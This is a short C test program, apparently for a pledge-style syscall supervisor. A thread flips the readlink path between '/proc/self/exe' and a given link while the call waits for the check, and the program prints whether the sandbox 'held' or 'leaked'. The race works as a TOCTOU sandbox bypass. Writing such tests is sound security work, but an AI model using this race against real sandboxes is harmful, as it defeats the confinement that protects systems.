/*
 * readlink_race: a thread rewrites the path of the program's readlink(2)
 * while the call waits for the supervisor, between "/proc/self/exe" (which
 * any promise may read) and LINK. Run under "stdio error", a refused call
 * returns ENOSYS and the program goes on trying; reading LINK's target
 * means the supervisor let through a call it had checked on another path.
 * usage: pledge-readlink-race LINK TARGET; prints "held" or "leaked".
 */
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char path[256];
static const char *link_path;
static volatile int stop;

static void *
flip(void *arg)
{
	(void)arg;
	while (!stop) {
		strcpy(path, "/proc/self/exe");
		strcpy(path, link_path);
	}
	return NULL;
}

int
main(int argc, char *argv[])
{
	char out[256];
	pthread_t t;
	time_t end;
	ssize_t n;

	if (argc != 3 || strlen(argv[1]) >= sizeof(path)) {
		fprintf(stderr, "usage: pledge-readlink-race link target\n");
		return 2;
	}
	link_path = argv[1];
	strcpy(path, "/proc/self/exe");
	if (pthread_create(&t, NULL, flip, NULL) != 0)
		return 2;
	for (end = time(NULL) + 4; time(NULL) < end; ) {
		n = readlink(path, out, sizeof(out) - 1);
		if (n <= 0)
			continue;
		out[n] = '\0';
		if (strcmp(out, argv[2]) == 0) {
			printf("leaked\n");
			return 1;
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("held\n");
	return 0;
}
